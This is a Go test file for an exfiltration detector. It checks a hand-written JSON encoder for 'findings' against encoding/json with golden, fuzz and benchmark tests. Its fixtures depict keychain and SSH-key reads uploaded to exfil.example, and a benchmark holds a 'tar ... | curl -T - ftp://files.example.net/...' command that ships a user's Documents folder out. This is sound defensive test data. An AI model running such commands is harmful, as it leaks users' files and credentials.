package detect

import (
	"bytes"
	"encoding/json"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"exfilwatch/attribution"
	"exfilwatch/sensor/events"
)

var updateHandmade = flag.Bool("update-handmade", false, "rewrite testdata/golden/handmade_*.json from json.Marshal of the findings")

var hmT = time.Date(2026, 1, 2, 3, 4, 5, 600000000, time.UTC)

// handmadeFindings exercise every optional part of the document, and the
// strings encoding/json escapes (HTML characters, control characters,
// U+2028/U+2029, invalid UTF-8).
func handmadeFindings() map[string]*Finding {
	weird := "/Users/bob/Dоcuments/<script>&\"x\"\\y\x00\x01\x1f\x7f\u2028\u2029é\xff\xfe\xe2\x80/ünï 漢字 🙂.pdf"
	sig := &Finding{
		ID: "mac-http-full", RuleID: RuleMacOS, GOOS: "darwin", Created: hmT, Severity: SeverityCritical, Score: 9,
		Reasons: []Reason{{Code: "sensitive_read", Description: "read <keychain> & \"ssh\" key", Weight: 3},
			{Code: "lineage_read", Description: "explains only\n\ttab", Weight: 0},
			{Code: "signed", Description: "signed by a team", Weight: -2}},
		Process: &attribution.Process{PID: 501, PPID: 1, Name: "python3", Executable: "/usr/bin/python3",
			Args: []string{"python3", "-c", "import os; print('<&>')", weird}, CWD: "/Users/bob",
			StartTime: time.Date(2026, 1, 2, 3, 0, 0, 0, time.FixedZone("X", 3600)), UID: 501, User: "bob", PGID: 500},
		Parent: &attribution.Process{PID: 400, Name: "zsh", Executable: "/bin/zsh", Args: []string{"-zsh"},
			StartTime: time.Date(2026, 1, 2, 2, 0, 0, 123, time.UTC)},
		Lineage: []*attribution.Process{
			{PID: 400, Name: "zsh", Executable: "/bin/zsh"},
			nil,
			{PID: 300, Name: "Terminal", Executable: "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal",
				StartTime: time.Date(2025, 12, 31, 23, 59, 59, 999999999, time.UTC)},
		},
		Attribution: "pktap",
		Code:        &attribution.CodeSignature{SigningID: "com.apple.python3", TeamID: "", Valid: true, Platform: true},
		Script:      &attribution.Script{Interpreter: "python", Inline: "import os; print('<&>')\nx=1"},
		Files: []File{
			{Path: "/Users/bob/Library/Keychains/login.keychain-db", Class: "keychains", Time: hmT.Add(-time.Second),
				Access: "read", Size: 4096, Hashed: true, SHA256: [32]byte{1, 2, 3, 0xff}, ContentMatch: true,
				PID: 501, ProcessName: "python3", Executable: "/usr/bin/python3", Relation: RelSelf, Source: "eslogger"},
			{Path: weird, Class: "documents", Time: hmT.Add(-2 * time.Second), Access: "open", Size: 0, Hashed: true,
				PID: 502, ProcessName: "cp", Relation: RelChild},
			{Path: "relative.txt", Class: "documents", Access: "read", Size: 0, PID: 0},
			{Path: "/", Class: "x"},
			{Path: "", Class: ""},
		},
		BytesRead: 4096,
		Upload: upload{Protocol: "http",
			Conn: events.Conn{FlowID: 7, Client: netip.MustParseAddrPort("[2001:2::1]:51234"),
				Server: netip.MustParseAddrPort("[2001:2::2]:8443"), IPv6: true, Transport: "tcp", Direction: "outbound"},
			Start: hmT.Add(-time.Second), End: hmT.Add(-time.Millisecond), Bytes: 123456,
			Hashes: []contentHash{{Where: "http.request.body", SHA256: [32]byte{9, 9}},
				{Where: "multipart part \"file\" <report.pdf>", SHA256: [32]byte{8}}},
			FlowIDs: []uint64{7, 18446744073709551615}, Method: "PUT", Target: "/up/load?x=<1>&y=2#frag",
			Host: "[2001:2::2]:8443", UserAgent: "Python-urllib/3.12 <&>", ContentType: " Application/JSON ; charset=utf-8"},
		DestinationName:  "exfil.example",
		DestinationHosts: []string{"exfil.example", "cdn.exfil.example"},
		ContentMatch:     &ContentMatch{Where: "http.request.body", Path: weird, SHA256: [32]byte{0xab}},
		Source:           "captures/<x>&y.pcapng",
	}
	ftp := &Finding{
		ID: "linux-ftp-module", RuleID: RuleLinux, GOOS: "linux", Created: hmT, Severity: SeverityMedium, Score: 3,
		Reasons: []Reason{{Code: "network_tool", Description: "curl", Weight: 1}},
		Process: &attribution.Process{PID: 1234, PPID: 1000, Name: "python3", Executable: "/usr/bin/python3.12",
			Args: []string{"python3", "-m", "ftplib_up"}, UID: 0, User: "root"},
		Attribution: "socket_table",
		Script:      &attribution.Script{Interpreter: "python", Module: "ftplib_up"},
		Files: []File{{Path: "/root/.ssh/id_ed25519", Class: "ssh", Time: hmT.Add(-3 * time.Second), Access: "read",
			Size: 411, Hashed: false, PID: 1234, Relation: RelSelf, Source: "fanotify"}},
		BytesRead: 411,
		Upload: upload{Protocol: "ftp",
			Conn:  events.Conn{FlowID: 3, Client: netip.MustParseAddrPort("198.18.0.1:40000"), Server: netip.MustParseAddrPort("198.18.0.2:21")},
			Start: hmT.Add(-2 * time.Second), End: hmT, Bytes: 411,
			Hashes:  []contentHash{{Where: "ftp data", SHA256: [32]byte{1}}, {Where: "ftp data 2", SHA256: [32]byte{2}}},
			FlowIDs: []uint64{3, 4}, FTPCommand: "STOU", FTPFile: "id_ed25519", FTPStoredAs: "id_ed25519.1"},
	}
	bare := &Finding{ID: "", RuleID: "", GOOS: "", Severity: "", Upload: upload{Protocol: "tcp"}}
	noParentLinuxHTTP := &Finding{
		ID: "http-abs-url", RuleID: RuleLinux, GOOS: "linux", Created: hmT, Severity: SeverityLow,
		Reasons: []Reason{},
		Process: &attribution.Process{PID: 77, PPID: 76, Name: "wget", UID: 1000},
		Files:   []File{},
		Upload: upload{Protocol: "http",
			Conn:  events.Conn{Client: netip.MustParseAddrPort("198.18.0.1:1"), Server: netip.MustParseAddrPort("198.18.0.2:80"), Transport: "udp"},
			Start: hmT, End: hmT, Method: "POST", Target: "https://h.example", Host: "h.example:80"},
		DestinationHosts: []string{},
	}
	absPath := &Finding{
		ID: "http-abs-path", RuleID: RuleMacOS, GOOS: "darwin", Created: hmT, Severity: SeverityHigh,
		Process: &attribution.Process{PID: 88, Name: "curl", User: "x"},
		Upload: upload{Protocol: "http",
			Conn:  events.Conn{Client: netip.MustParseAddrPort("198.18.0.1:1"), Server: netip.MustParseAddrPort("198.18.0.2:80")},
			Start: hmT, End: hmT, Method: "POST", Target: "http://h.example/a/b?c#d", Host: "",
			Hashes: []contentHash{{Where: "multipart part", SHA256: [32]byte{5}}}},
	}
	v6NoHost := &Finding{
		ID: "http-v6-nohost", RuleID: RuleLinux, GOOS: "linux", Created: hmT,
		Process: &attribution.Process{PID: 99},
		Parent:  &attribution.Process{PID: 98, Name: "sh"},
		Upload: upload{Protocol: "http",
			Conn:  events.Conn{Client: netip.MustParseAddrPort("[2001:2::1]:1"), Server: netip.MustParseAddrPort("[2001:2::9]:8080"), IPv6: true},
			Start: hmT, End: hmT, Method: "POST", Target: "/x"},
	}
	return map[string]*Finding{"mac_http_full": sig, "linux_ftp_module": ftp, "bare": bare,
		"linux_http_abs_url": noParentLinuxHTTP, "mac_http_abs_path": absPath, "http_v6_nohost": v6NoHost}
}

func TestHandmadeFindingGoldens(t *testing.T) {
	for name, f := range handmadeFindings() {
		t.Run(name, func(t *testing.T) {
			b, err := json.Marshal(f.ECS())
			if err != nil {
				t.Fatal(err)
			}
			b = append(b, '\n')
			if hand := append(f.AppendJSON(nil), '\n'); !bytes.Equal(hand, b) {
				t.Fatalf("AppendJSON differs from encoding/json:\n got %s\nwant %s", hand, b)
			}
			p := filepath.Join("testdata", "golden", "handmade_"+name+".json")
			if *updateHandmade {
				if err := os.WriteFile(p, b, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(b, want) {
				t.Fatalf("%s differs:\n got %s\nwant %s", p, b, want)
			}
		})
	}
}

// FuzzFindingJSON builds findings from fuzzed strings and numbers: the hand
// encoder must write exactly what encoding/json writes from ECS(), and
// valid JSON where encoding/json refuses (a year past 9999).
func FuzzFindingJSON(f *testing.F) {
	f.Add("/home/a/Documents/x.pdf", "curl", "/upload?x=1", "h.example:8080", "text/plain", "ftp data", int64(1700000000), int64(123456789), uint16(8080), int64(3000), uint8(0))
	f.Add("<&>\u2028\xff\xe2\x80", "\x00\b\f\n\r\t\x7f", "http://", "[2001:2::1]:80", "", "", int64(-62135596800), int64(0), uint16(80), int64(0), uint8(0xff))
	f.Add("", "", "https://h/x#y", "", "A/B;c", "http.request.body", int64(253402300800), int64(1), uint16(0), int64(-1), uint8(0x55))
	f.Fuzz(func(t *testing.T, p, name, target, host, ctype, where string, sec, nsec int64, port uint16, size int64, flags uint8) {
		at := time.Unix(sec, nsec)
		fi := fuzzFinding(p, name, target, host, ctype, where, at, port, size, flags)
		want, err := json.Marshal(fi.ECS())
		got := fi.AppendJSON(nil)
		if err != nil {
			if !json.Valid(got) {
				t.Fatalf("AppendJSON wrote invalid JSON where encoding/json failed (%v): %s", err, got)
			}
			return
		}
		if !bytes.Equal(got, want) {
			t.Fatalf("AppendJSON differs from encoding/json:\n got %s\nwant %s", got, want)
		}
		if m, err := json.Marshal(fi); err != nil || !bytes.Equal(m, want) {
			t.Fatalf("json.Marshal(finding) differs (%v):\n got %s\nwant %s", err, m, want)
		}
	})
}

func fuzzFinding(p, name, target, host, ctype, where string, at time.Time, port uint16, size int64, flags uint8) *Finding {
	bit := func(i uint) bool { return flags&(1<<i) != 0 }
	server := netip.AddrPortFrom(netip.MustParseAddr("198.18.0.2"), port)
	if bit(0) {
		server = netip.AddrPortFrom(netip.MustParseAddr("2001:2::2"), port)
	}
	fi := &Finding{ID: name, RuleID: RuleLinux, GOOS: p, Created: at, Severity: ctype, Score: int(size),
		Attribution: where, DestinationName: host, Source: target,
		Upload: upload{Protocol: "tcp", Conn: events.Conn{FlowID: uint64(size), Client: netip.MustParseAddrPort("198.18.0.1:40000"),
			Server: server, IPv6: bit(0), Transport: name, Direction: where},
			Start: at.Add(-time.Second), End: at, Bytes: size, Method: name, Target: target, Host: host,
			UserAgent: p, ContentType: ctype, FTPCommand: name, FTPFile: p, FTPStoredAs: target}}
	switch flags >> 6 {
	case 1:
		fi.Upload.Protocol = "http"
	case 2:
		fi.Upload.Protocol = "ftp"
	case 3:
		fi.Upload.Protocol = where
	}
	if bit(1) {
		fi.RuleID = RuleMacOS
		fi.Code = &attribution.CodeSignature{SigningID: name, TeamID: host, Valid: bit(2), AdHoc: bit(3), Platform: bit(4)}
	}
	if bit(2) {
		fi.Process = &attribution.Process{PID: int32(size), PPID: int32(port), Name: name, Executable: p,
			Args: []string{name, p, target}, CWD: host, StartTime: at, UID: uint32(port), User: ctype, PGID: int32(port)}
		if bit(5) {
			fi.Process.Args = []string{where}
		}
	}
	if bit(3) {
		fi.Parent = &attribution.Process{PID: 1, Name: where, Args: []string{}}
		fi.Lineage = []*attribution.Process{fi.Parent, nil, {PID: int32(port), Executable: target}}
	}
	if bit(4) {
		fi.Script = &attribution.Script{Interpreter: name, Path: p, Inline: target, Module: where}
		fi.ContentMatch = &ContentMatch{Where: where, Path: p, SHA256: [32]byte{byte(size)}}
		fi.DestinationHosts = []string{host, name}
		fi.Reasons = []Reason{{Code: name, Description: p, Weight: int(size)}}
		fi.Upload.FlowIDs = []uint64{uint64(size), uint64(port)}
	}
	if bit(5) {
		fi.Upload.Hashes = []contentHash{{Where: where, SHA256: [32]byte{1}}, {Where: "http.request.body", SHA256: [32]byte{2}}}
		fi.Reasons = []Reason{}
	}
	fi.Files = []File{{Path: p, Class: name, Time: at, Access: where, Size: size, Hashed: bit(6), SHA256: [32]byte{3},
		ContentMatch: bit(7), PID: int32(port), ProcessName: name, Executable: target, Relation: where, Source: ctype}}
	if bit(7) {
		fi.Files = append(fi.Files, File{Path: target + "/" + p, Size: -size})
	}
	return fi
}

func TestFindingJSONMemo(t *testing.T) {
	fi := handmadeFindings()["mac_http_full"]
	a := fi.JSON()
	if b := fi.JSON(); &a[0] != &b[0] {
		t.Fatal("JSON encoded the finding twice")
	}
	if cap(a) != len(a) {
		t.Fatalf("JSON's slice has room past its end (%d > %d): an append by one output would write into another's", cap(a), len(a))
	}
	// A copy changed after the original was encoded (a test's template)
	// must not take the original's document.
	c := *fi
	c.ID = "copy"
	if cj := c.JSON(); bytes.Equal(cj, a) || !bytes.Equal(cj, c.AppendJSON(nil)) {
		t.Fatalf("copy's JSON is the original's: %s", cj)
	}
	if !bytes.Equal(fi.JSON(), a) {
		t.Fatal("original's JSON changed")
	}
}

// A request target of exactly "http://" made ECS() slice past its end.
func TestFindingJSONBareSchemeTarget(t *testing.T) {
	for _, target := range []string{"http://", "https://", "http://x", "https://x/"} {
		fi := handmadeFindings()["mac_http_abs_path"]
		fi.Upload.Target = target
		want, err := json.Marshal(fi.ECS())
		if err != nil {
			t.Fatal(err)
		}
		if got := fi.AppendJSON(nil); !bytes.Equal(got, want) {
			t.Fatalf("%q:\n got %s\nwant %s", target, got, want)
		}
		var doc struct {
			URL struct{ Path string } `json:"url"`
		}
		if err := json.Unmarshal(want, &doc); err != nil || doc.URL.Path != "/" && target != "https://x/" {
			t.Fatalf("%q: url.path %q (%v)", target, doc.URL.Path, err)
		}
	}
}

// BenchmarkFindingJSON compares encoding/json over ECS() (what every output
// did) with the hand encoder, on a scenario-sized finding (~3.5 KB).
func BenchmarkFindingJSON(b *testing.B) {
	fi := benchFindingJSON()
	b.Run("encoding_json", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			out, err := json.Marshal(fi.ECS())
			if err != nil {
				b.Fatal(err)
			}
			b.SetBytes(int64(len(out)))
		}
	})
	b.Run("AppendJSON", func(b *testing.B) {
		b.ReportAllocs()
		var buf []byte
		for b.Loop() {
			buf = fi.AppendJSON(buf[:0])
			b.SetBytes(int64(len(buf)))
		}
	})
	b.Run("AppendJSON_new", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			out := fi.AppendJSON(nil)
			b.SetBytes(int64(len(out)))
		}
	})
}

func benchFindingJSON() *Finding {
	fi := handmadeFindings()["linux_ftp_module"]
	fi.Parent = &attribution.Process{PID: 1000, Name: "sh", Executable: "/usr/bin/dash",
		Args: []string{"sh", "-c", "tar cf - -C /home/alice Documents | curl -sS -T - ftp://files.example.net/upload/docs.tar"}, CWD: "/home/alice", PGID: 1000, StartTime: hmT}
	fi.Process.CWD, fi.Process.StartTime, fi.Process.PGID = "/home/alice", hmT, 1000
	for i := range 3 {
		fi.Files = append(fi.Files, File{Path: "/home/alice/Documents/report-" + string(rune('a'+i)) + ".pdf", Class: "documents",
			Time: hmT, Access: "read", Size: 20000, Hashed: true, PID: 1001, ProcessName: "tar", Relation: RelSibling, Source: "fanotify"})
	}
	fi.Reasons = append(fi.Reasons, Reason{Code: "sensitive_read", Description: "tar read 4 files in ~/Documents", Weight: 2},
		Reason{Code: "lineage_read", Description: "a sibling in the same pipeline read them", Weight: 0})
	fi.Source = "captures/scenarios/p5_tar_pipe_curl_ftp/capture.pcapng"
	return fi
}
